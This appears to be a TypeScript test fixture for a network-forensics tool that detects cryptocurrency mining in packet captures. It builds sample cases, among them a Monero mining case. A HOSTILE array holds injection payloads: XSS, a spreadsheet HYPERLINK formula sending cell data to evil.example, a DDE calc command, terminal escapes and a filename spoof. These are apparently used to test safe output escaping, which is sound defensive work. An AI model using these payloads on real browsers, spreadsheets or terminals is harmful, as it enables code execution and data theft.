import { type Case, type CaseSum, NOTHING_FOLLOWED, type Verdict } from "../../src/model/case.ts";
import {
  around,
  contact,
  counts,
  DAYS,
  evidence,
  finding,
  gap,
  place,
  series,
  session,
  sum,
  valuation,
  WALLET,
  work,
} from "./sample-parts.ts";

const VERDICT: Verdict = {
  severity: "info",
  headline: "No mining was seen in what could be read.",
  says: ["2,310,442 packets of one capture were read; no conversation follows a known mining protocol."],
  wouldChange: [
    "Captures of other days or of other machines.",
    "Memory or disk images: encrypted mining shows there and not in a capture.",
  ],
};

/** Nothing found, nothing left out. */
export function nothingCase(over: Partial<Case> = {}): Case {
  return {
    schema: 1,
    tool: { name: "paydirt", version: "0.1.0" },
    about: { caseNumber: null, examiner: null },
    options: { asOf: null, poolFee: 0, hashed: true, showSecrets: false },
    tables: [{ name: "pools", sha256: "c0ffee".padEnd(64, "0"), source: "lists named in data/pools" }],
    limits: [
      {
        detector: "pool-contact",
        name: "times",
        value: 1,
        unit: "contacts",
        why: "one look-up already is contact",
        changed: false,
      },
    ],
    verdict: VERDICT,
    evidence: [evidence()],
    sessions: [],
    sums: [],
    contacts: [],
    ...NO_HOSTS,
    findings: [],
    valuations: [],
    series: [],
    ...NOTHING_FOLLOWED,
    gaps: [],
    ...over,
  };
}

/** Names were asked for, nothing readable was mined. */
export function contactCase(): Case {
  const summary = "203.0.113.55 asked for the name of a known mining pool; no mining was read";
  return nothingCase({
    verdict: {
      ...VERDICT,
      severity: "low",
      headline: "One machine was in contact with a known mining pool; no mining could be read.",
    },
    contacts: [
      contact(),
      contact({
        by: "sni",
        name: "pool.example.org",
        server: { ip: "198.51.100.9", port: 443 },
        times: 2,
        alpn: "h2",
      }),
    ],
    ...NO_HOSTS,
    findings: [
      finding("f1", {
        detector: "pool-contact",
        severity: "low",
        likelihood: null,
        confidence: "moderate",
        about: ["203.0.113.55"],
        summary,
        basis: [
          {
            place: place(4410),
            how: "seen",
            says: "DNS question for xmr.pool.example.org",
            excerpt: "xmr.pool.example.org A",
          },
        ],
      }),
    ],
    gaps: [gap("encrypted-session", "TLS to 198.51.100.9:443")],
  });
}

/** Evidence that could hardly be read. */
export function gapsCase(): Case {
  return nothingCase({
    evidence: [
      evidence({ sha256: null, packets: 12 }),
      evidence({
        id: "e2",
        name: "notes.txt",
        kind: "unrecognised",
        bytes: 0,
        packets: null,
        first: null,
        last: null,
      }),
    ],
    options: { asOf: null, poolFee: 0, hashed: false, showSecrets: false },
    gaps: [
      gap("truncated-file", "Cannot read packet 13: record of 4,294,967,295 bytes exceeds the 812 left"),
      gap("lost-segments", "1,204,331 bytes missing in 4,120 places", 4120),
      {
        ...gap("empty", "notes.txt"),
        place: { evidence: "e2", atByte: 0, byteLength: 0, packet: null, line: null },
      },
    ],
  });
}

const MINED: Verdict = {
  severity: "high",
  headline: "Two servers mined Monero for one wallet from 14 to 16 July 2017.",
  says: [
    "1,824 accepted shares stand for about 348 million hashes, worth about 0.18 XMR.",
    "Both machines log in with the same wallet; the pool's records can tell what it paid.",
  ],
  wouldChange: [
    "The pool's own records on the wallet: what was paid and when.",
    "Captures of other days: the mining was running when this one begins.",
    "A memory image: which process opened the connection, and who started it.",
  ],
};

function minedSums(): readonly CaseSum[] {
  return [
    sum("host", "203.0.113.10"),
    sum("host", "2001:db8:0:12::beef", {
      sessions: ["s2"],
      shares: counts(620),
      work: work(119_600_000),
      hashrateHps: around(512),
    }),
    sum("wallet", WALLET, {
      sessions: ["s1", "s2"],
      shares: counts(1824, 12, 3),
      work: work(348_000_000),
      hashrateHps: around(1514),
    }),
    sum("worker", `${WALLET}/web`),
    ...DAYS.map((date) =>
      sum("day", date, { sessions: ["s1", "s2"], shares: counts(608, 4, 1), work: work(116_000_000) }),
    ),
  ];
}

/** What host evidence adds to a case, where there is none. */
export const NO_HOSTS = { hosts: [], wallets: [], observables: [], clusters: [], timeline: [] };

/** Two hosts, three days, one capture seen twice. */
export function miningCase(): Case {
  const other = {
    client: { ip: "2001:db8:0:12::beef", port: 50112 },
    worker: null,
    shares: counts(620),
    work: work(119_600_000),
    hashrateHps: around(512),
    sharesSeenTwice: 31,
    midStream: true,
  };
  const about = { kind: "case", id: "case" } as const;
  return nothingCase({
    about: { caseNumber: "2017-0814", examiner: "A. Examiner" },
    options: { asOf: "2017-12-29", poolFee: 0.01, hashed: true, showSecrets: false },
    verdict: MINED,
    sessions: [
      session("s1", "203.0.113.10"),
      session("s2", "", other),
      session("s3", "192.0.2.1", { duplicateOf: "s1", evidence: ["e2"] }),
    ],
    sums: minedSums(),
    evidence: [
      evidence(),
      evidence({ id: "e2", name: "tap2/server-2017-07.pcap.gz", compression: "gzip", bytes: 311_990_121 }),
    ],
    ...NO_HOSTS,
    findings: [
      finding("f1"),
      finding("f2", {
        severity: "medium",
        likelihood: 0.7,
        confidence: "moderate",
        summary: "Both hosts mine for one wallet: one operator",
        about: [WALLET],
        next: null,
      }),
    ],
    contacts: [contact()],
    valuations: [
      valuation("v1", about),
      valuation("v2", { kind: "host", id: "203.0.113.10" }, 0.65),
      valuation("v3", { kind: "session", id: "s1" }, 0.65),
      valuation("v4", { kind: "wallet", id: WALLET }),
    ],
    series: [series("s1", 1), series("s2", 0.5)],
    gaps: [
      gap("lost-segments", "18,220 bytes missing in 12 places", 12),
      gap("no-price", "2017-07-16: no price for XMR"),
    ],
  });
}

/** What an attacker would like the reader, the browser, the spreadsheet or the terminal to act on. */
export const HOSTILE = [
  "</script><img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  "`$".concat("{alert(1)}`"),
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "\t@SUM(1+1)*cmd|' /C calc'!A0",
  "\u001b[2J\u001b]0;owned\u0007\u009b31m",
  "abc\u202egpj.exe\u2066\u200b",
  "line one\r\nHosts      0\nSessions 0",
  "\ud800 lone, \u{e0041} tag, NUL \u0000",
  "</style></pre></title><!--<base href=//evil.example>",
  "agent ".repeat(1700),
] as const;

/** Every string that evidence can put into a case, hostile. */
export function hostileCase(of: Case = miningCase()): Case {
  const evil = HOSTILE.join(" ");
  const spoil = (value: unknown, key: string): unknown => {
    if (typeof value === "string") return FROM_EVIDENCE.has(key) ? evil : value;
    if (Array.isArray(value)) return value.map((part) => spoil(part, key));
    if (value === null || typeof value !== "object") return value;
    return Object.fromEntries(Object.entries(value).map(([name, part]) => [name, spoil(part, name)]));
  };
  return { ...of, ...Object(spoil({ ...of }, "")) };
}

const FROM_EVIDENCE = new Set(
  (
    "ip wallet account worker agent name algorithm excerpt says summary headline next about caseNumber " +
    "examiner client chain pool source priceSource difficultySource wouldChange what why label category " +
    "abuse actor list service stopSays asked address addresses nextStep caution status rule"
  ).split(" "),
);

/** More sessions, gaps and days than a page should show. */
export function largeCase(sessions = 450): Case {
  const ids = Array.from({ length: sessions }, (_, at) => `s${at + 1}`);
  return {
    ...miningCase(),
    sessions: ids.map((id, at) => session(id, `10.0.${at >> 8}.${at & 255}`)),
    sums: ids.map((id, at) => sum("host", `10.0.${at >> 8}.${at & 255}`, { sessions: [id] })),
    series: ids.slice(0, 30).map((id, at) => series(id, 1 + at / 10)),
    gaps: ids.map((id) => gap("undecoded-message", `in ${id}`)),
  };
}
